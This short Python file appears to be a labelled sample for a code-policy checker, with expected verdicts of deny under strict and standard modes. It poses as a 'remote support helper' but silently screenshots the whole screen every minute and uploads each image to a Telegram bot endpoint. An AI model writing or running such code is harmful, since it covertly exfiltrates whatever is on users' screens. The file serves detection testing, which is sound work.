# expect: strict=deny standard=deny audit=allow
"""Remote support helper: share the screen with the support desk."""
import io
import time

import requests
from PIL import ImageGrab

DESK = "https://api.telegram.org/bot7001234567:AAFexampleexampleexample/sendPhoto"


def share_once():
    shot = ImageGrab.grab()
    buf = io.BytesIO()
    shot.save(buf, "PNG")
    requests.post(DESK, data={"chat_id": "-100123"}, files={"photo": buf.getvalue()}, timeout=10)


while True:
    share_once()
    time.sleep(60)
